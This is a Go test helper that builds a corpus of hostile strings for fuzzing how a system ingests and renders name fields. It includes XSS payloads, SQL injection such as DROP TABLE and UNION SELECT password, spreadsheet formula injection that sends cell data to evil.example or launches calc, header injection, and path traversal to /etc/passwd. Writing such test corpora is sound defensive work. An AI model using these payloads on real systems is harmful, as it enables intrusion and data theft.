package ingesttest

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// HostileTexts makes n different texts that somebody might write where a name
// belongs. What markup there is bears the attribute data-evil, which no page
// of ours has: it shows wherever a text became markup.
func HostileTexts(n int) []string {
	rng := rand.New(rand.NewPCG(3, 14))
	seen, out := map[string]bool{}, []string{}
	for i := 0; len(out) < n; i++ {
		text := fmt.Sprintf(hostileForms[i%len(hostileForms)], i)
		switch round := i / len(hostileForms); {
		case round == 1 && i%40 == 0:
			text = strings.Repeat(text, 10_000/len(text)+1)
		case round > 1: // two of them, one in the wrapping of another
			other := fmt.Sprintf(hostileForms[rng.IntN(len(hostileForms))], i)
			text = fmt.Sprintf(hostileWraps[rng.IntN(len(hostileWraps))], text, other)
		}
		if !seen[text] {
			seen[text] = true
			out = append(out, text)
		}
	}
	return out
}

var hostileWraps = []string{"%s%s", "%s %s", `"%s"%s`, `'%s'><%s`, "\u202e%s\u202c%s", "</script>%s%s", "-->%s<!--%s", "%s\r\n%s", "\t%s\t%s", "%[2]s</td>%[1]s", "\uFEFF%s%s",
	"\\\"%s\\%s", "]]>%s%s", "`%s`${%s}", "%s;%s", "%s|%s", "</title>%s</textarea>%s", "%s\u2028%s", "</option></select>%s%s", "%s\x7f%s"}

// hostileForms are the kinds, each with a number so that no two are the same.
var hostileForms = []string{
	`<script data-evil>alert(%d)</script>`, `</script><script data-evil>alert(%d)</script>`, `<img src=x data-evil onerror=alert(%d)>`, `<svg data-evil onload=alert(%d)>`,
	`"><img src=x data-evil onerror=alert(%d)>`, `'><svg data-evil onload='alert(%d)'>`, `" onmouseover="alert(%d)" data-evil="`, `' onfocus='alert(%d)' autofocus data-evil='`,
	` data-evil onclick=alert(%d) `, `</title><script data-evil>alert(%d)</script>`, `</textarea><iframe data-evil src=javascript:alert(%d)>`, `<!--<script data-evil>%d`,
	`--><b data-evil>%d</b>`, `<style data-evil>*{display:none}/*%d*/</style>`, `<a data-evil href="javascript:alert(%d)">x</a>`, `javascript:alert(%d)`, `JaVaScRiPt:alert(%d)//`,
	"java\nscript:alert(%d)", `data:text/html,<script data-evil>alert(%d)</script>`, `//evil.example/%d`, `https://evil.example/%d`, `\\evil.example\%d`, `vbscript:msgbox(%d)`,
	`<form data-evil action=//evil.example/%d><button>`, `<meta data-evil http-equiv=refresh content="0;url=//evil.example/%d">`, `<base data-evil href=//evil.example/%d>`,
	`<math data-evil><mtext><img src onerror=alert(%d)>`, `<noscript><p title="</noscript><img data-evil src=x onerror=alert(%d)>">`, `&lt;script data-evil&gt;alert(%d)&lt;/script&gt;`,
	`&#60;img data-evil src=x onerror=alert(%d)&#62;`, `{{.CSRF}} %d`, `{{template "layout" .}} %d`, `${7*%d}`, `#{7*%d}`, `<%%= %d %%>`, `{count} {name} {%d}`, `{"a":"%d"}`, `[%d,null]`,
	`' OR 1=1 -- %d`, `'; DROP TABLE calls; -- %d`, `" OR ""="%d`, `\'; DELETE FROM accounts; # %d`, `' UNION SELECT password FROM accounts -- %d`, `1); COPY calls TO '/tmp/evil%d`,
	`read_csv('/etc/passwd') %d`, `%%' ESCAPE '!' %d`, `_%%%d`, `agent == "x" or true %d`, `) or (1 == %d`, `$1 ? :name %d`,
	"=1+%d", "=cmd|' /C calc'!A%d", "+%d+1", "-%d+1", "@SUM(A1:A%d)", "＝HYPERLINK(\"http://evil.example/%d\")", "＋%d", "－%d", "＠%d", "\t=%d", "\r=%d", "\n=%d", "\u200b=%d", "\u00a0=%d", "'=%d",
	`"=%d"`, ";=%d", ",=1+%d", "|=%d", "−%d", "%d\n=1+1", "=IMPORTXML(CONCAT(\"http://evil.example/\",A%d))", `=HYPERLINK("http://evil.example/?"&A%d,"x")`, "0x%d", "00%d", "1e%d",
	"x%d\r\nBcc: evil@evil.example", "x%d\r\nSet-Cookie: evil=1", "x%d\nSubject: evil\n\n<b data-evil>", "x%d%%0d%%0aLocation: //evil.example", "../../../../etc/passwd%d", `..\..\windows\system.ini%d`, "%%2e%%2e/%d",
	"./%d", "a/b/%d", "?%d=1", "#%d", "a?b#c&d=%d;e", "%%zz%d", "C:\\%d", "con%d", "\u202e%d txt.exe", "\u2066\u2067%d\u2069", "سارا %d", "علی\u200cرضا <b data-evil>%d</b>", "שלום %d", "\u0600%d", "e\u0301\u0302\u0303%d",
	"%d\u0000null", "NULL %d", "null", "nil", "undefined", "NaN", "None", "-", "N/A", "true", "0", "-0", "Infinity", "NaN%d", "\u0007%d", "\u001b[31m%d", "\x7f%d", "\u0085%d", "\ufeff%d", "\ufffe%d", "😀%d", "👩‍👩‍👧%d", "𝒳%d",
	"İıſ%d", "ß%d", "\u2028%d", "constructor%d", "__proto__", "prototype", "toString", "ï»¿%d", "<%d", ">%d", "&%d", "\"%d", "'%d", "`%d", "\\%d", "%%s%%n%%d %d", "%d%%",
}

func init() { // those without a number stand for themselves
	for i, form := range hostileForms {
		if !strings.Contains(strings.ReplaceAll(form, "%%", ""), "%d") {
			hostileForms[i] = strings.ReplaceAll(form, "%", "%%") + "%.0d"
		}
	}
}
